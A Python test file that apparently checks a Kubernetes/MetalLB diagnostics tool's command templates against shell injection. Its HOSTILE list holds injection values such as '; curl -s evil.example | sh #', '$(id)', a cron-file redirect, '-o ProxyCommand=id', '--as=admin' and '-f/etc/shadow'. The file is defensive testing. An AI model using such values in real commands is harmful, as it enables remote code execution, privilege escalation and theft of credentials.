"""No command that is shown can be made to do anything else by what a cluster, a repository or a caller says."""

from __future__ import annotations

import ast
import re
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from clusters.checks.causes import CAUSES
from clusters.checks.serialise import check_from_dict
from clusters.commands import FETCH, FIELDS, PLACEHOLDER, command, fields_in, fields_of, kept
from clusters.subject import CLUSTER, Subject
from clusters.upgrade.decision import RULES
from suites.plugin import declare

ROOT = Path(__file__).parents[3]
QUOTED = re.compile(r"'[^']*'|\"[^\"]*\"")
HARMLESS = {
    "namespace": "shop",
    "service": "web",
    "pool": "edge.pool",
    "node": "node1.example.org",
    "address": "10.0.0.1",
    "metallb_namespace": "metallb",
    "controller": "deployment/metallb-controller",
    "speaker": "daemonset/metallb-speaker",
    "account": "system:serviceaccount:metallb-system:controller",
    "verb": "list",
    "resource": "servicel2statuses.metallb.io --subresource=status",
    "within": "-n shop",
    "kind": "IPAddressPool",
    "name": "edge",
    "revision": "0123abc",
    "uid": "8f14e45f-ceea-467f-9c3b-3f9c1f5a0b11",
    "host": "root@edge-1",
    "packages": "iproute2 libc6-dev",
    "profile": "profiles/home lab.yaml",
    "overlay": "metallb/overlays/lab",
    "pod": "speaker-x7k2p",
    "port": "8080",
    "endpoint": "10.244.1.7",
    "peer": "192.0.2.12",
    "interface": "eth0",
    "folder": "metallb/overlays/it's",
    "other_folder": "metallb/base",
    "file": "services/metallb.md",
    "text": "Last validated",
}
HOSTILE = (
    "; curl -s evil.example | sh #",
    "system:serviceaccount:metallb-system:controller; curl -s evil.example | sh #",
    "$(id)",
    "`id`",
    "web\ncurl evil.example",
    "web\n",
    "\nweb",
    "web\r\x1b[2K",
    "'; id; '",
    '"; id; "',
    "\\",
    "-o ProxyCommand=id",
    "--kubeconfig=/tmp/evil",
    "-h",
    "web && id",
    "web > /etc/cron.d/x",
    "<(id)",
    "<service>",
    "web/../../secrets",
    "*",
    "~root",
    "fe80::1%;id",
    "10.0.0.1; id",
    "web\u202eevil",
    "web\u2028id",
    "-n shop; id",
    "-n shop -o yaml",
    "--all-namespaces --as=admin",
    "pods --as=admin",
    "a" * 5000,
)


def templates() -> Iterator[tuple[str, str]]:
    """Every template of the project that somebody may be shown, with where it is from."""
    for cause in CAUSES.values():
        yield from ((f"cause {cause.id}", each) for each in cause.commands)
    for declared in declare.load(ROOT / "suites").values():
        yield from ((f"check {declared.spec.id}", each) for each in declared.spec.commands)
    for rule in RULES:
        yield from ((f"rule {rule.id}", each) for each in rule.commands)
    for path, call in calls():
        if isinstance(call.args[0], ast.Constant):
            yield f"{path.name}:{call.lineno}", str(call.args[0].value)


def calls() -> Iterator[tuple[Path, ast.Call]]:
    """Every place that makes a command of a template."""
    for path in sources():
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Name)
                and node.func.id in {"command", "shown"}
                and path.name != "commands.py"
            ):
                yield path, node


def sources() -> list[Path]:
    return [path for top in ("clusters", "reports", "suites") for path in sorted((ROOT / top).rglob("*.py"))]


ALL = pytest.mark.parametrize("template", sorted({each for _, each in templates()}))


def words(text: str) -> list[str]:
    """What a shell makes of it, with its operators as words of their own; placeholders count as plain words.

    So does what is quoted: a parenthesis in quotes is no operator.
    """
    plain = QUOTED.sub("quoted", PLACEHOLDER.sub("placeholder", text))
    return list(shlex.shlex(plain, posix=True, punctuation_chars=True))


def operators(text: str) -> list[str]:
    return [word for word in words(text) if set(word) <= set("();<>|&")]


@ALL
def test_what_a_template_leaves_open_is_a_field(template: str) -> None:
    assert not PLACEHOLDER.search(template)


@ALL
def test_every_template_is_one_command_line_with_known_fields(template: str) -> None:
    assert fields_in(template) <= set(FIELDS)

    for shown in (command(template), command(template, **HARMLESS)):
        assert shown.isprintable()
        assert set(operators(shown)) <= {"|", ">"}
        parsed = subprocess.run(["sh", "-n"], input=PLACEHOLDER.sub("x", shown), text=True, check=False)
        assert parsed.returncode == 0


@ALL
def test_a_hostile_field_stays_one_word_or_out_of_the_command(template: str) -> None:
    harmless = command(template, **HARMLESS)
    for name in fields_in(template):
        without = command(template, **{**HARMLESS, name: "\0"})
        for hostile in HOSTILE:
            shown = command(template, **{**HARMLESS, name: hostile})

            assert shown.isprintable()
            assert operators(shown) == operators(harmless)
            if any(hostile in word for word in shlex.split(shown)):
                assert len(shlex.split(shown)) == len(shlex.split(without))
            else:
                assert shown == without


@given(st.sampled_from(FIELDS), st.text())
@example("profile", ")")  # quoted, it is no operator
def test_no_text_at_all_gets_past_its_field(name: str, text: str) -> None:
    shown = command(f"kubectl get {{{name}}} -o yaml", **{name: text})

    assert operators(shown) == []
    assert shown.isprintable()
    first, *middle, last, form = shlex.split(PLACEHOLDER.sub("x", shown))[1:]
    assert (first, last, form) == ("get", "-o", "yaml")
    assert len(middle) == 1 or name in {"within", "resource", "packages"}


def test_what_kubernetes_would_not_accept_leaves_the_placeholder() -> None:
    template = "kubectl auth can-i {verb} {resource} {within} --as {account}"
    hostile = "system:serviceaccount:metallb-system:controller; curl -s evil.example | sh #"

    shown = command(template, verb="list", resource="services", account=hostile)

    assert shown == "kubectl auth can-i list services --all-namespaces --as <account>"


def test_a_path_is_quoted_and_is_no_option() -> None:
    assert command("kubectl apply -k {folder}", folder="my overlays/$(id)") == (
        "kubectl apply -k 'my overlays/$(id)'"
    )
    assert command("git show {revision} -- {folder}/", folder="-x") == "git show <revision> -- ./-x/"
    assert command("grep -n {text} {file}", text="-f/etc/shadow", file="a b") == "grep -n <text> 'a b'"


def test_nothing_hostile_looks_like_a_placeholder() -> None:
    assert command("grep -n {text} {file}", text="<service>", file="<file>") == "grep -n '<service>' '<file>'"


def test_an_ipv6_address_is_asked_for_by_neighbour_discovery() -> None:
    for cause in CAUSES.values():
        for shown in cause.render(address="fd00:172:30::210"):
            assert not re.search(r"\barping\b|\bip neigh\b|\barp and\b", shown)
    (asked, *_) = CAUSES["nobody-answers"].render(address="FD00:0::1")

    assert asked == "ndisc6 -m -r 5 fd00::1 <interface>"


def test_a_command_of_a_file_stays_on_its_line() -> None:
    assert kept("kubectl get pods | grep -v '<none>'") == "kubectl get pods | grep -v '<none>'"
    assert kept("ls\nid\x1b]0;x\x07\u202e\ud800") == "ls\\nid\\x1b]0;x\\x07\\u202e\\ud800"

    finding = {
        "cause": "x",
        "subject": "x",
        "summary": "x",
        "evidence": [],
        "remedy": "",
        "commands": ["a\nb"],
    }
    data = {"id": "a.b", "title": "", "runbook": [], "level": "observe", "outcome": "failed", "duration_s": 0}
    read = check_from_dict({**data, "findings": [finding], "measurements": {}})

    assert read.findings[0].commands == ("a\\nb",)


#: What begins something to type. A sentence that goes on with a value after it has to take that from `command`.
_TYPED = re.compile(
    r"\b(?:kubectl|python -m|git(?= [a-z-])|helm|grep|arping|ndisc6|ssh|sudo|docker|kind (?:delete|get|create|load)"
    r"|ip|pytest|tcpdump|export|nsenter|apt-get|To allow that, add) "
    # No word of a sentence that is about the program.
    r"(?:(?!\b(?:at|could|failed|installed|is|it|longer|of|refuses|the) )[^.:;!?])*$"
)


def by_hand() -> Iterator[str]:
    """Every f-string that goes on with a value where something to type has begun; constants are ours."""
    for path in sources():
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.BinOp) and isinstance(node.left, ast.Constant):
                made = isinstance(node.right, ast.Call) and ast.unparse(node.right.func) in {
                    "command",
                    "shown",
                }
                if isinstance(node.left.value, str) and _TYPED.search(node.left.value) and not made:
                    yield f"{path.relative_to(ROOT)}:{node.lineno}"
            if not isinstance(node, ast.JoinedStr):
                continue
            for before, value in zip(node.values, node.values[1:], strict=False):
                if not isinstance(before, ast.Constant) or not isinstance(value, ast.FormattedValue):
                    continue
                ours = isinstance(value.value, ast.Name) and value.value.id.isupper()
                if _TYPED.search(str(before.value)) and not ours:
                    yield f"{path.relative_to(ROOT)}:{node.lineno}"


def test_no_other_place_puts_a_value_into_what_is_typed() -> None:
    """A command that is put together by hand is one that nobody quotes."""
    assert list(by_hand()) == []


@pytest.mark.parametrize(
    ("subject", "fields"),
    [
        (Subject.service("shop/web"), {"namespace": "shop", "service": "web"}),
        (Subject.node("w1"), {"node": "w1"}),
        (Subject.pool("edge"), {"pool": "edge"}),
        (Subject("overlay", "metallb/overlays/lab"), {"overlay": "metallb/overlays/lab"}),
        (Subject.read("overlay metallb/overlays/lab"), {"overlay": "metallb/overlays/lab"}),
        (CLUSTER, {}),
    ],
)
def test_a_subject_fills_in_what_it_names(subject: Subject, fields: dict[str, str]) -> None:
    assert fields_of(subject) == fields


def test_what_is_fetched_from_an_ipv6_address_is_in_brackets() -> None:
    assert command(FETCH, address="fd00::1", port="80") == "curl --connect-timeout 3 'http://[fd00::1]:80/'"
